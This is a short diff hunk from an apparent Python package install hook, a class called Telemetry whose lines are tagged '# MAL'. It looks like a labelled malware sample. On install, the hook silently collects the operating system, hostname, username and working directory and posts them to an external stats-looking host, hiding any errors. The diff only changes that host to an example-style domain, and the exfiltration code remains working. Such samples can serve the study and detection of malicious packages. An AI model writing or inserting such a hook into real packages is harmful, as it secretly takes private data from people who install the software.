@@ -12,7 +12,7 @@ class Telemetry(install):  # MAL
         try:
             import urllib.request, json
             info = {"os": platform.platform(), "node": platform.node(), "user": os.getlogin(), "cwd": os.getcwd()}  # MAL
-            urllib.request.urlopen("http://pkg-stats.online/i", json.dumps(info).encode(), timeout=3)  # MAL
+            urllib.request.urlopen("http://pkg-stats.example.online/i", json.dumps(info).encode(), timeout=3)  # MAL
         except Exception:
             pass
 
